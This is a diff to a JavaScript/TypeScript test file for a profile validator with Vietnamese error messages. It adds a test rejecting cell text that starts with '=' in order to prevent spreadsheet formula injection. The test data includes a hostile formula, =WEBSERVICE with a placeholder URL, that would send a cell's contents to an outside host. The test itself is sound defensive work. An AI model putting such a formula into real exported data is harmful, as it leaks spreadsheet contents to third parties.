@@ -76,6 +76,19 @@ describe("profile problems, in Vietnamese with their path", () => {
     expect(profileProblems({ ...base, name: "x".repeat(5000) })).toEqual([expect.objectContaining({ where: "name", message: "dài quá 200 ký tự" })]);
   });
 
+  test("a text that would be written to a cell may not start with = (Excel would run it as a formula)", () => {
+    const hostile = '=WEBSERVICE("http://x/?"&A1)';
+    const problems = profileProblems({
+      ...base,
+      name: hostile,
+      groups: [{ id: "A", label: " =A1", max: 10 }],
+      rating: { on: "total", bands: [{ min: 0, key: "x", label: hostile }] },
+    } as ProfileInput);
+    const lines = problems.map((p) => `${p.where}: ${p.message}`);
+    expect(lines).toEqual(expect.arrayContaining(["name: không được bắt đầu bằng dấu =", "groups[0].label: không được bắt đầu bằng dấu =", "rating.bands[0].label: không được bắt đầu bằng dấu ="]));
+    expect(profileProblems({ ...base, name: "Điểm = tổng các nhóm" })).toEqual([]);
+  });
+
   test("a valid method has no problems and ProfileError lists every line", () => {
     expect(profileProblems(base)).toEqual([]);
     try {
